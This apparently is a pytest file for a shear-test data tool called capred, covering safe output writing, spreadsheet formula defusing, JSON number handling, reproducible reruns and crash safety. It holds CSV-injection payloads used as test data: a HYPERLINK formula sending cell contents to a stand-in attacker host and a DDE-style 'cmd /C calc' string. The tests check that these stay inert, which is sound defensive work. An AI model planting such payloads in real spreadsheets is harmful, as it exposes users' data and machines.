"""Issue 19: nothing lost, nothing injected - capred never writes over a file it did not write, no live formula
reaches a spreadsheet, numbers JSON cannot hold become null, reruns give the same bytes, a killed rerun leaves
one whole run."""

import json
import os
import random
import shutil
import signal
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import capred
from capred.cli import app

runner = CliRunner()
SHEAR = ["--no-plots", "--bootstrap", "0"]
INJECTION = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'


def _files(out: Path) -> dict[str, bytes]:
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def _shear_file(path: Path, material: str | None = None, test_id: str | None = None) -> Path:
    """The shear sample with its first material (and the first test id) renamed."""
    frame = pd.read_csv(capred.sample_path("shear"), comment="#", dtype=str, keep_default_na=False)
    if material is not None:
        frame.loc[frame["material"] == frame["material"].iloc[0], "material"] = material
    if test_id is not None:
        frame.loc[0, "test_id"] = test_id
    frame.to_csv(path, index=False)
    return path


# --- 1. a report folder is replaced only when capred wrote every file in it ---------------------------------
def test_rerun_keeps_a_users_file_inside_a_report(tmp_path):
    out = tmp_path / "o"
    assert runner.invoke(app, ["shear", "--sample", *SHEAR, "--out", str(out)]).exit_code == 0
    (out / "notes.txt").write_text("my lab notes")
    before = _files(out)
    res = runner.invoke(app, ["shear", "--sample", *SHEAR, "--gamma-w", "10", "--out", str(out)])
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert "notes.txt" in res.stderr and "did not write" in res.stderr
    assert _files(out) == before  # the earlier run and the notes, untouched


def test_rerun_keeps_a_users_folder_inside_a_report(tmp_path):
    out = tmp_path / "o"
    capred.write_outputs(
        capred.run_shear(capred.sample_path("shear"), capred.ShearOptions(bootstrap=0)), out, plots=False
    )
    (out / "mine").mkdir()
    (out / "mine" / "a.txt").write_text("x")
    with pytest.raises(capred.OutputError, match=r"mine/a\.txt"):
        capred.write_outputs(
            capred.run_shear(capred.sample_path("shear"), capred.ShearOptions(bootstrap=0)), out, plots=False
        )
    assert (out / "mine" / "a.txt").read_text() == "x"


def test_foreign_files_lists_what_provenance_does_not(tmp_path):
    from capred.io.writers import foreign_files

    out = tmp_path / "o"
    (out / "figures").mkdir(parents=True)
    for name in ("results.csv", "figures/a.png", "figures/b.png", ".DS_Store", "figures/extra.txt"):
        (out / name).write_text("x")
    (out / "empty").mkdir()
    (out / "provenance.json").write_text(
        json.dumps({"capred_version": "0", "outputs": ["results.csv", "figures/a.png", "provenance.json"]})
    )
    assert foreign_files(out) == ["empty/", "figures/b.png", "figures/extra.txt"]
    (out / "provenance.json").write_text("{not json")  # an unreadable provenance: nothing in the folder is capred's
    assert "results.csv" in foreign_files(out)


def test_a_file_saved_while_the_run_computes_is_not_deleted(tmp_path):
    """The check is repeated under the lock, just before the swap."""
    out = tmp_path / "o"
    result = capred.run_shear(capred.sample_path("shear"), capred.ShearOptions(bootstrap=0))
    capred.write_outputs(result, out, plots=False)

    def artifacts_then_user_saves(folder):
        (out / "late.txt").write_text("saved meanwhile")

    from capred.io.writers import write_run

    with pytest.raises(capred.OutputError, match="late.txt"):
        write_run(result, out, artifacts=artifacts_then_user_saves)
    assert (out / "late.txt").read_text() == "saved meanwhile"
    assert (out / "results.csv").exists() and [p.name for p in tmp_path.iterdir()] == ["o"]


# --- 1. a batch never writes over a file it did not write, least of all its manifest -----------------------
def _runs(tmp_path: Path, n: int = 2) -> Path:
    runs = tmp_path / "runs"
    runs.mkdir()
    for k in range(n):
        shutil.copy(capred.sample_path("shear"), runs / f"s{k}.csv")
    return runs


def test_batch_manifest_in_out_is_never_overwritten(tmp_path, monkeypatch):
    """`capred batch season.csv --out .` (the README's name) must not replace the manifest with the season table."""
    runs = _runs(tmp_path)
    work = tmp_path / "work"
    (work / "results").mkdir(parents=True)
    text = f"command,input,options\nshear,{runs}/*.csv,--no-plots --bootstrap 0\n"
    monkeypatch.chdir(work)
    for manifest, out in (("season.csv", "."), ("results/season.csv", "results")):
        (work / manifest).write_text(text)
        res = runner.invoke(app, ["batch", manifest, "--out", out])
        assert res.exit_code == 1 and "Traceback" not in res.output
        # refused as an input under --out (the batch checks its manifest like any input), before any computing
        assert "season.csv" in res.stderr and ("holds the input" in res.stderr or "did not write" in res.stderr)
        assert (work / manifest).read_text() == text
    assert sorted(p.name for p in work.iterdir()) == ["results", "season.csv"]
    assert [p.name for p in (work / "results").iterdir()] == ["season.csv"]  # nothing computed, nothing written


@pytest.mark.parametrize("name", ["index.csv", "season.csv", "season.html", "provenance.json"])
def test_batch_refuses_a_users_file_named_like_its_outputs(name, tmp_path):
    runs = _runs(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / name).write_text("command,input,status\nmine\n")
    res = runner.invoke(app, ["shear", str(runs / "*.csv"), *SHEAR, "--out", str(out)])
    assert res.exit_code == 1 and name in res.stderr and "Traceback" not in res.output
    assert [p.name for p in out.iterdir()] == [name] and (out / name).read_text() == "command,input,status\nmine\n"


def test_batch_rerun_replaces_its_own_files_but_not_edited_ones(tmp_path):
    runs = _runs(tmp_path)
    out = tmp_path / "out"
    args = ["shear", str(runs / "*.csv"), *SHEAR, "--out", str(out)]
    assert runner.invoke(app, args).exit_code == 0
    prov = json.loads((out / "provenance.json").read_text())
    assert prov["command"] == "batch" and prov["runs"] == ["shear_s0", "shear_s1"]
    assert set(prov["batch_files"]) == {"index.csv", "season.csv", "season_shear.csv", "season.html"}
    assert all(len(h) == 1 for h in prov["batch_files"].values())  # one hash each once written
    assert runner.invoke(app, args).exit_code == 0  # its own files: replaced
    (out / "season.csv").write_text("edited by hand\n")
    res = runner.invoke(app, args)
    assert res.exit_code == 1 and "season.csv" in res.stderr
    assert (out / "season.csv").read_text() == "edited by hand\n"


def test_batch_keeps_a_users_file_in_a_run_folder(tmp_path):
    runs = _runs(tmp_path)
    out = tmp_path / "out"
    args = ["shear", str(runs / "*.csv"), *SHEAR, "--out", str(out)]
    assert runner.invoke(app, args).exit_code == 0
    (out / "shear_s0" / "notes.txt").write_text("keep me")
    res = runner.invoke(app, args)
    assert res.exit_code == 1 and "notes.txt" in res.stderr
    assert (out / "shear_s0" / "notes.txt").read_text() == "keep me"
    index = pd.read_csv(out / "index.csv").groupby("input")["status"].first()
    # inputs relative to the batch root (issue 28.4)
    assert index["../runs/s0.csv"] == "failed" and index["../runs/s1.csv"] == "ok"


# --- 2. no live formula reaches a spreadsheet --------------------------------------------------------------
def test_xlsx_holds_formula_like_text_as_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    data = _shear_file(tmp_path / "t.csv", material=INJECTION, test_id="@SUM(1+1)*cmd|' /C calc'!A0")
    res = runner.invoke(app, ["shear", str(data), *SHEAR, "--xlsx", "--out", str(tmp_path / "o")])
    assert res.exit_code == 0, res.output
    wb = openpyxl.load_workbook(tmp_path / "o" / "tables.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula in the workbook
    texts = {c.value for c in cells if c.data_type == "s"}
    assert INJECTION in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts  # the text itself, verbatim
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers and all(isinstance(v, (int, float)) for v in numbers)  # numbers stay numbers


def test_xlsx_control_character_in_a_material_is_shown_not_fatal(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    # U+0001 and U+001B (escape): not line breaks to a text reader (U+000B is one, to Python's splitlines)
    data = _shear_file(tmp_path / "t.csv", material="steel\x012mm\x1b")
    res = runner.invoke(app, ["shear", str(data), *SHEAR, "--xlsx", "--out", str(tmp_path / "o")])
    assert res.exit_code == 0 and "Traceback" not in res.output
    wb = openpyxl.load_workbook(tmp_path / "o" / "tables.xlsx")
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}
    assert "steel\u24012mm\u241b" in texts  # as their control pictures, U+2401 and U+241B


def test_excel_csv_defuses_formulas_and_standard_csv_keeps_text(tmp_path):
    data = _shear_file(tmp_path / "t.csv", material=INJECTION, test_id="-3+4")
    for dialect in ("excel-eu", "standard"):
        res = runner.invoke(
            app, ["shear", str(data), *SHEAR, "--csv-dialect", dialect, "--out", str(tmp_path / dialect)]
        )
        assert res.exit_code == 0, res.output
    eu = pd.read_csv(tmp_path / "excel-eu" / "results.csv", sep=";", decimal=",", encoding="utf-8-sig")
    std = pd.read_csv(tmp_path / "standard" / "results.csv")
    assert "'" + INJECTION in set(eu["material"]) and "'-3+4" in set(eu["test_id"])
    assert INJECTION in set(std["material"]) and "-3+4" in set(std["test_id"])
    # numbers are not text: a negative number keeps its sign, unquoted, in both dialects
    num = [c for c in std.columns if std[c].dtype.kind == "f" and (std[c] < 0).any()]
    assert num and (eu[num[0]].dropna().to_numpy() == std[num[0]].dropna().to_numpy()).all()


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("sand", "sand"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_defuse_follows_owasp(text, expected):
    from capred.io.writers import defuse

    assert defuse(text) == expected


# --- 3. numbers JSON cannot hold are null, never a crash ---------------------------------------------------
def test_json_writes_non_finite_and_huge_numbers_as_null():
    from capred.io.writers import encode_json, stream_json

    doc = {
        "nan": float("nan"),
        "inf": float("inf"),
        "ninf": np.float64("-inf"),
        "huge_int": 10**400,
        "big_int": 2**70,
        "arr": np.array([1.5, np.inf]),
        "ok": [1, 2.5, "x", None, True],
    }
    for text in (encode_json(doc), encode_json(doc, indent=False)):
        back = json.loads(text)
        assert back["nan"] is back["inf"] is back["ninf"] is back["huge_int"] is None
        assert back["big_int"] == float(2**70)  # beyond 64 bits: the nearest double, 1.1805916207174113e21
        assert back["arr"] == [1.5, None] and back["ok"] == [1, 2.5, "x", None, True]
    chunks = []
    stream_json(doc, chunks.append)
    assert json.loads(b"".join(chunks)) == json.loads(encode_json(doc))


@pytest.mark.filterwarnings("ignore::RuntimeWarning")  # overflow of 1e300 squared: the case under test
def test_dry_tau_of_1e300_gives_a_result_or_a_message(tmp_path):
    """A dry test with tau = 1e300 kPa (issue 19's audit): OverflowError in the JSON payload before."""
    frame = pd.read_csv(capred.sample_path("shear"), comment="#", dtype=str, keep_default_na=False)
    dry = frame.index[frame["condition"] == "dry"][0]
    frame.loc[dry, "tau_max [kPa]"] = "1e300"
    frame.to_csv(tmp_path / "t.csv", index=False)
    res = runner.invoke(app, ["shear", str(tmp_path / "t.csv"), *SHEAR, "--out", str(tmp_path / "o")])
    if isinstance(res.exception, OverflowError) and "_fit_dict" in "".join(
        __import__("traceback").format_tb(res.exception.__traceback__)
    ):
        pytest.xfail("capred/pipelines/shear.py _fit_dict squares a huge slope as a Python float")
    assert res.exit_code in (0, 1) and "Traceback" not in res.output, res.output
    if res.exit_code == 0:
        doc = json.loads((tmp_path / "o" / "summary.json").read_text())
        assert doc["command"] == "shear"
    else:
        assert res.stderr.startswith("Error:")


# --- 4. byte-identical reruns ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "figures",
    [
        pytest.param(["--no-plots"], id="tables-json-xlsx-html"),
        pytest.param(["--format", "png,svg,pdf"], id="every-figure-format", marks=pytest.mark.slow),
    ],
)
def test_rerun_with_source_date_epoch_is_byte_identical(figures, tmp_path, monkeypatch):
    """Everything but provenance.json: tables, JSON, workbook, figures in every format, report.html."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    frame = pd.read_csv(capred.sample_path("shear"), comment="#", dtype=str, keep_default_na=False)
    frame[frame["material"] == frame["material"].iloc[0]].to_csv(tmp_path / "one.csv", index=False)  # one sheet
    out = tmp_path / "o"
    args = ["shear", str(tmp_path / "one.csv"), "--bootstrap", "0", "--xlsx", *figures, "--out", str(out)]
    assert runner.invoke(app, args).exit_code == 0
    first = _files(out)
    time.sleep(1.1)  # a timestamp with one-second resolution would differ
    assert runner.invoke(app, args).exit_code == 0
    second = _files(out)
    assert set(first) == set(second)
    differ = sorted(n for n in first if n != "provenance.json" and first[n] != second[n])
    known = [n for n in differ if n.endswith(".svg") or n == "report.html"]  # capred/report/: SVG ids, the date
    assert differ == known, f"outputs that differ between reruns: {differ}"
    if known:
        pytest.xfail(f"{len(known)} SVG/HTML files still differ (svg.hashsalt, report date): {known[:3]}")


def test_workbook_bytes_do_not_depend_on_the_clock(tmp_path, monkeypatch):
    from capred.io.spreadsheet_out import write_workbook

    frame = pd.DataFrame({"material": ["a", "b"], "tau [kPa]": [1.0, np.nan]})

    def write(epoch, name):
        if epoch is None:
            monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
        else:
            monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
        write_workbook(tmp_path / name, {"t": frame})

    epochs = ("1700000000", None)
    for k, epoch in enumerate(epochs):
        write(epoch, f"a{k}.xlsx")
    time.sleep(2.1)  # zip entry times have a two-second resolution (one wait for both cases)
    for k, epoch in enumerate(epochs):
        write(epoch, f"b{k}.xlsx")
        assert (tmp_path / f"a{k}.xlsx").read_bytes() == (tmp_path / f"b{k}.xlsx").read_bytes()
    import openpyxl

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # 2023-11-14 22:13:20 UTC
    write_workbook(tmp_path / "c.xlsx", {"t": frame})
    assert str(openpyxl.load_workbook(tmp_path / "c.xlsx").properties.created) == "2023-11-14 22:13:20"


# --- 5. SIGKILL during a rerun: the old run or the new one, whole ------------------------------------------
def _whole(out: Path) -> str:
    """Which run the folder holds ('old' or 'new'), asserting it is whole: exactly the files its provenance
    lists, every table from that run."""
    prov = json.loads((out / "provenance.json").read_text())
    assert sorted(_files(out)) == prov["outputs"]
    gamma = prov["options"]["gamma_w"]
    assert json.loads((out / "summary.json").read_text())["options"]["gamma_w"] == gamma
    return {9810.0: "old", 10000.0: "new"}[gamma]


def _kill_trials(tmp_path: Path, trials: int, plots: bool, seed: int) -> dict[str, int]:
    kw = dict(plots=plots, xlsx=True, formats=("png",), dpi=40)  # small figures: the same files, less drawing
    """Fork a writer of a precomputed rerun, SIGKILL it at a random moment of its write, check the folder."""
    out = tmp_path / "o"
    old = capred.run_shear(capred.sample_path("shear"), capred.ShearOptions(bootstrap=0))
    new = capred.run_shear(capred.sample_path("shear"), capred.ShearOptions(bootstrap=0, gamma_w="10 kN/m^3"))
    capred.write_outputs(old, out, **kw)
    new.json_lazy(), old.json_lazy()  # computed before forking: the child only writes
    span = 0.0  # how long a forked rerun takes, from fork to exit (the longest of two: the machine is shared)
    capred.write_outputs(old, tmp_path / "timing", **kw)
    for _ in range(2):
        t0 = time.perf_counter()
        pid = os.fork()
        if pid == 0:
            try:
                capred.write_outputs(new, tmp_path / "timing", **kw)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        span = max(span, time.perf_counter() - t0)
    shutil.rmtree(tmp_path / "timing")
    rng = random.Random(seed)
    seen = {"old": 0, "new": 0}
    for trial in range(trials):
        which = new if trial % 2 == 0 else old  # alternate, so either kind of rerun replaces the other
        pid = os.fork()
        if pid == 0:
            try:
                capred.write_outputs(which, out, **kw)
            finally:
                os._exit(0)
        time.sleep(rng.uniform(0.0, 1.3 * span))  # some after the swap
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        seen[_whole(out)] += 1
    print(f"{trials} kills in a write of {span:.2f} s: the folder held {seen}")
    capred.write_outputs(new, out, plots=False)  # the next run sweeps what the killed ones left behind
    assert [p.name for p in tmp_path.iterdir()] == ["o"]
    return seen


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_sigkill_during_a_rerun_leaves_one_whole_run(tmp_path):
    """6 kills at uniform random moments of the write of a rerun (tables, JSON, workbook, HTML); the slow set
    kills 30 more (each kill costs a whole write: ~1 s of the everyday suite)."""
    seen = _kill_trials(tmp_path, trials=6, plots=False, seed=18)
    assert sum(seen.values()) == 6


@pytest.mark.slow
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_sigkill_during_reruns_leaves_one_whole_run(tmp_path):
    """30 kills at uniform random moments of the write of a rerun (tables, JSON, workbook, HTML)."""
    seen = _kill_trials(tmp_path, trials=30, plots=False, seed=19)
    assert sum(seen.values()) == 30


@pytest.mark.slow
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_sigkill_during_reruns_with_figures_leaves_one_whole_run(tmp_path):
    """12 kills while the figures of a rerun are drawn and written (30 more without figures above)."""
    seen = _kill_trials(tmp_path, trials=12, plots=True, seed=20)
    assert sum(seen.values()) == 12


def test_the_sweep_reads_names_as_text(tmp_path):
    """A killed run's work folder is removed by the next run into the same target, also when the target's name
    holds characters a glob pattern would read ('[', '*'); live runs' folders and other names are left."""
    import os
    import subprocess

    from capred.io.writers import _sweep_stale

    dead = subprocess.Popen(["true"])
    dead.wait()  # a process id that no longer runs
    stem = "run[1]*"
    stale = tmp_path / f".{stem}.capred-tmp-{dead.pid}-abc"
    live = tmp_path / f".{stem}.capred-old-{os.getpid()}-def"
    other = tmp_path / f".run1.capred-tmp-{dead.pid}-ghi"  # another target's: not this sweep's
    for p in (stale, live, other):
        p.mkdir()
    _sweep_stale(tmp_path, stem)
    assert not stale.exists() and live.exists() and other.exists()
